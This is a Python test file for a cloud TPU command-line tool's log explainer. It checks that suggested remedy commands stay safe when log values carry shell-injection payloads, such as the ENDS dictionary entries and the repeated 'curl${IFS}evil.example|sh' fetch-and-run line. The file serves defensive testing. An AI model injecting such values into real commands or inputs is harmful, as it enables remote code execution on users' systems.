"""Values from logs, workers and ssh in the commands that are suggested: each is one harmless word, or a word in capitals."""

from __future__ import annotations

import itertools
import json
import re
import shlex
import shutil
import subprocess
from collections.abc import Iterator, Mapping
from typing import Final

import pytest

from tests.conftest import Console, Sandbox
from tests.explain.examples import examples_of
from tests.hostile import HostileSlice, err, leave
from tests.lifecycle import put
from tpuctl.command_text import KINDS, NEVER_FROM_TEXT, fill_text, template_problems
from tpuctl.explain.conclusion import _CHECK_FIRST_REASONS
from tpuctl.explain.messages import MESSAGE_FILES, Message, fill_message, known_messages
from tpuctl.explain.unrecognised import unrecognised_kinds
from tpuctl.yaml_reader import load_data

# A value of each kind, which is shown as it is.
VALID: Final = {
    **dict.fromkeys(("node", "name"), "us-central2-b/trainer-0"),
    **dict.fromkeys(("zone", "place"), "us-central1-ai1a"),
    "region": "europe-west4",
    "project": "example.com:proj-1",
    "network": "projects/host/global/networks/shared-vpc",
    "subnetwork": "projects/host/regions/us-east1/subnetworks/sub",
    **dict.fromkeys(("instance", "disk", "firewall_rule", "configuration"), "vm-1"),
    "type": "v5litepod-16",
    "bucket": "my_bucket.example-1",
    "bucket_url": "gs://bucket/a/b",
    **dict.fromkeys(("account", "service_account"), "tpu@proj-1.iam.gserviceaccount.com"),
    "member": "serviceAccount:tpu@proj-1.iam.gserviceaccount.com",
    "role": "projects/proj-1/roles/tpuGuard",
    "service": "tpu.googleapis.com",
    "permission": "storage.objects.get",
    "attribute": "accelerator-type",
    "property": "compute/zone",
    "variable": "TPU_WORKER_ID",
    "module": "jax._src.lib",
    "job": "20260131-080000",
    "pid": "4711",
    "worker": "31",
    "alias": "tpu.4711-w0",
    **dict.fromkeys(("path", "key", "file", "known_hosts"), "/home/ada/.ssh/key_1"),
}
ENDS: Final = {
    "semicolon": ";curl${IFS}evil.example|sh",
    "pipe": "|sh",
    "background": "&sh",
    "and": "&&sh",
    "substitution": "$(sh)",
    "variable": "${HOME}",
    "backtick": "`sh`",
    "input": "<sh",
    "output": ">sh",
    "subshell": "(sh)",
    "braces": "{sh,ls}",
    "single quote": "';sh;'",
    "double quote": '";sh;"',
    "both quotes": "'\";sh;\"'",
    "backslash": "\\",
    "line end": "\nsh",
    "carriage return": "\rsh",
    "line separator": "\u2028sh",
    "comment": " #",
    "history": "!sh",
    "star": "*",
    "question": "?",
    "brackets": "[a-z]",
    "caret": "^",
    "escape": "\x1b[2Ksh",
    "null": "\0sh",
    "tab": "\tsh",
    "no-break space": "\u00a0sh",
    "right to left": "\u202esh",
    "full-width semicolon": "\uff1bsh",
    "full-width dollar": "\uff04(sh)",
    "look-alike quote": "\u2019;sh",
    "surrogate": "\udcff",
    "long": "a" * 20_000,
}
WHOLE: Final = {
    "empty": "",
    "option": "--project=evil",
    "short option": "-rf",
    "hyphen": "-",
    "home of another": "~root",
    "program of zsh": "=sh",
    "assignment": "A=1 sh",
    "two words": "a sh",
    "look-alike": "\u0440roject",
    "dot": ".",
    "zero": "0",
    "one": "1",
    "hyphens and words": "x --member=user:evil@example.com",
}
# What a value of any kind may have outside of quotation marks, and what only a path may have, inside of some.
PLAIN: Final = re.compile(r"[A-Za-z0-9_@%+=:,./~-]+")
IN_PATH: Final = re.compile(r"[\w@%+=:,./~ -]+")
PATHS: Final = {"path", "key", "file", "known_hosts", "bucket_url"}
ALL: Final = (*known_messages(), *unrecognised_kinds())


def texts_of(message: Message) -> Iterator[str]:
    """Yield the texts that may have commands."""
    yield from (message.meaning, *message.remedy)
    if message.check_first:
        yield _CHECK_FIRST_REASONS[message.check_first]


def templates() -> dict[str, list[str]]:
    """Return the texts with placeholders, by what they belong to."""
    texts = {message.id: list(texts_of(message)) for message in ALL}
    texts |= {one["id"]: one.get("remedy", []) for one in load_data("own_errors.yaml")}
    return {id_: [text for text in some if "{" in text] for id_, some in texts.items()}


def hostile_values(kind: str) -> dict[str, str]:
    """Return values that are none of a kind, or need quotation marks."""
    return {**{name: VALID[kind] + end for name, end in ENDS.items()}, **WHOLE}


def placeholders(text: str) -> set[str]:
    """Return the placeholders of a text."""
    return set(re.findall(r"\{(\w+)\}", text))


def filled_commands(text: str, values: Mapping[str, str]) -> dict[str, str]:
    """Return the commands of a text that have placeholders, filled, by their templates; a placeholder alone is no command."""
    parts = zip(text.split("`")[1::2], fill_message(text, {}, values).split("`")[1::2], strict=True)
    return {template: command for template, command in parts if re.search(r".\{\w+\}|\{\w+\}.", template)}


def is_as_meant(template: str, command: str, values: Mapping[str, str]) -> bool:
    """Return whether a shell sees the words of the template, with each value as a part of its word, or with its capitals."""
    names = re.findall(r"\{(\w+)\}", template)
    choices = [[word for word in (values.get(name, ""), capitals(name)) if is_harmless(name, word)] for name in names]
    meant = [dict(zip(names, chosen, strict=True)) for chosen in itertools.product(*choices)]
    return shlex.split(command) in [[fill(word, one) for word in shlex.split(template)] for one in meant]


def fill(word: str, values: Mapping[str, str]) -> str:
    """Return a word of a template with its placeholders filled, as they are."""
    return re.sub(r"\{(\w+)\}", lambda found: values[found[1]], word)


def capitals(kind: str) -> str:
    """Return what stands for a value that does not fit."""
    return {"account": "EMAIL", "bucket_url": "gs://BUCKET", "name": "NODE", "place": "ZONE"}.get(kind, kind.upper())


def is_harmless(kind: str, value: str) -> bool:
    """Return whether a shell takes a value for a word without any meaning of its own, once a path with spaces is quoted."""
    return (IN_PATH if kind in PATHS else PLAIN).fullmatch(value) is not None and value[0] not in "-="


def test_every_kind_has_a_valid_value() -> None:
    assert VALID.keys() == KINDS.keys()
    assert {kind: fill_text(f"`{{{kind}}} `", VALID) for kind in VALID} == {
        kind: f"`{value} `" for kind, value in VALID.items()
    }


def test_placeholders_in_commands_have_kinds() -> None:
    assert [
        (id_, problem) for id_, some in templates().items() for text in some for problem in template_problems(text)
    ] == []


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        ("run `kill {victim}`", "`kill {victim}`: {victim} has no kind"),
        ("run `kill {pid}", "an odd number of backticks"),
        ("run `sh -c 'cat {path}'`", "`sh -c 'cat {path}'`: {path} may need quotation marks, and is in some"),
        ('run `cat "{file}"`', '`cat "{file}"`: {file} may need quotation marks, and is in some'),
    ],
)
def test_template_that_could_go_wrong_is_found(template: str, problem: str) -> None:
    assert template_problems(template) == [problem]


def test_a_text_never_says_who_is_granted_a_role() -> None:
    """Neither by a group of a pattern, nor by a fact of that name."""
    asked = {one.id: placeholders("".join(filled_commands(" ".join(texts_of(one)), {}))) for one in ALL}
    assert [one.id for one in ALL if asked[one.id] & NEVER_FROM_TEXT & {*re.compile(one.match).groupindex}] == []
    assert fill_message("`grant {service_account} {role}`", {}, VALID) == "`grant SERVICE_ACCOUNT ROLE`"


def test_each_hostile_value_is_one_harmless_word_of_each_command() -> None:
    """For every message and error: the words that a shell sees are those of the template, whatever a value is."""
    templated = {command for some in templates().values() for text in some for command in filled_commands(text, {})}
    cases = [
        (one, name, value) for one in templated for name in placeholders(one) for value in hostile_values(name).values()
    ]
    shown = {
        (one, fill_text(f"`{one}`", VALID | {name: value})[1:-1]): VALID | {name: value} for one, name, value in cases
    }
    assert [command for (one, command), values in shown.items() if not is_as_meant(one, command, values)] == []
    commands = sorted({command for _, command in shown})
    assert words_for_bash(commands) == [shlex.split(command) for command in commands]


def words_for_bash(commands: list[str]) -> list[list[str]]:
    """Return the words that bash takes each command for; whatever else it would do with them fails."""
    # Templates may have a second command behind a pipe: it passes on what it reads.
    lines = [
        "words() { printf '%s\\0' \"$@\"; }",
        "tpuctl() { while IFS= read -r -d '' word; do words \"$word\"; done; words '|' tpuctl \"$@\"; }",
        *(f"words {command}\necho" for command in commands),
    ]
    done = subprocess.run(
        [shutil.which("bash") or "bash", "--noprofile", "--norc", "-u"],
        input="\n".join(lines),
        capture_output=True,
        env={"PATH": "/nonexistent", "HOME": "/nonexistent"},
        encoding="utf-8",
        check=False,
        timeout=60,
    )
    assert (done.stderr, done.returncode) == ("", 0)
    return [line.split("\0")[:-1] for line in done.stdout.split("\n")[:-1]]


def test_hostile_words_of_a_text_reach_no_command() -> None:
    """Each example of a message, with a hostile end behind what the pattern takes from it."""
    messages, tried, wrong = {message.id: message for message in ALL}, 0, []
    for text, match in examples_of(*(name for name in MESSAGE_FILES if name not in {"ssh", "node"})):
        message, collapsed = messages[match.id], " ".join(text.split())
        found, advice = re.search(message.match, collapsed), " ".join(texts_of(message))
        for name in placeholders("".join(filled_commands(advice, {}))) & {*(found.groupdict() if found else ())}:
            at = found.end(name) if found else 0
            for end in ENDS.values() if at > 0 else ():
                again = re.search(message.match, " ".join(f"{collapsed[:at]}{end}{collapsed[at:]}".split()))
                facts = {key: value for key, value in again.groupdict().items() if value} if again else {}
                tried += 1
                wrong += [pair for pair in filled_commands(advice, facts).items() if not is_as_meant(*pair, facts)]
    assert wrong == []
    assert tried > 10 * len(ENDS)


@pytest.mark.parametrize(
    ("log", "command"),
    [
        pytest.param(
            "Cloud TPU API has not been used in project x;curl${IFS}evil.example|sh before or it is disabled. Enable it by "
            "visiting https://console.developers.google.com/apis/api/tpu.googleapis.com/overview?project=1",
            "gcloud services enable tpu.googleapis.com --project=PROJECT",
            id="project",
        ),
        pytest.param(
            "Network [default;curl${IFS}evil.example|sh] is invalid for use with Service Networking",
            "gcloud services vpc-peerings connect --service=servicenetworking.googleapis.com --network=NETWORK --ranges=RANGE",
            id="network",
        ),
        pytest.param(
            "evil@attacker.example does not have storage.objects.get access to my-bucket/x",
            "gcloud storage buckets add-iam-policy-binding gs://my-bucket --member=serviceAccount:SERVICE_ACCOUNT "
            "--role=roles/storage.objectAdmin",
            id="account",
        ),
        pytest.param("Bad owner or permissions on /home/u/x;curl${IFS}evil.example|sh", "chmod 600 FILE", id="path"),
        pytest.param(
            'SSH Key is not present in the SSH agent: run ssh-add /home/u/k;curl${IFS}evil.example|sh"',
            "ssh-add KEY",
            id="key",
        ),
    ],
)
def test_explained_log_suggests_a_harmless_command(tpuctl: Console, log: str, command: str) -> None:
    out, _, _ = tpuctl("explain", log, "-o", "json")

    remedy = " ".join(json.loads(out)["verdicts"][0]["remedy"])
    assert f"`{command}`" in remedy
    assert "evil" not in remedy


def test_grant_is_for_the_account_of_the_node(tpuctl: Console, sandbox: Sandbox) -> None:
    put(sandbox, "trainer", serviceAccount={"email": VALID["account"]})
    log = "403 evil@attacker.example does not have storage.objects.get access to my-bucket/x"

    out, _, _ = tpuctl("explain", "--node", "trainer", log, "-o", "json")

    (grant, _) = json.loads(out)["verdicts"][-1]["remedy"]
    assert grant == (
        "give it the role on the bucket, `gcloud storage buckets add-iam-policy-binding gs://my-bucket "
        f"--member=serviceAccount:{VALID['account']} --role=roles/storage.objectAdmin`"
    )


PRINTED: Final = "Bad owner or permissions on /home/u/x;curl${IFS}evil.example|sh\n"


@pytest.mark.parametrize("arguments", [("run", "pod", "--", "true"), ("doctor", "pod")], ids=lambda words: words[0])
def test_stderr_of_ssh_suggests_a_harmless_command(pod: HostileSlice, arguments: tuple[str, ...]) -> None:
    pod.play({2: [[err(PRINTED.encode()), leave(255)]]})

    out, said, _ = pod.tpuctl(*arguments)

    suggested = [command for command in (out + said).split("`")[1::2] if command.startswith("chmod ")]
    assert set(suggested) == {"chmod 600 FILE"}


def test_output_of_run_suggests_a_harmless_command(pod: HostileSlice) -> None:
    line = "API has not been used in project x;curl${IFS}evil.example|sh before or it is disabled"

    _, said, _ = pod.tpuctl("run", "pod", "--", f"echo '{line}'; exit 3")

    (diagnosis,) = [text for text in said.splitlines() if text.startswith("diagnosis: ")]
    assert "`gcloud services enable SERVICE --project=PROJECT`" in diagnosis
    assert "evil" not in diagnosis
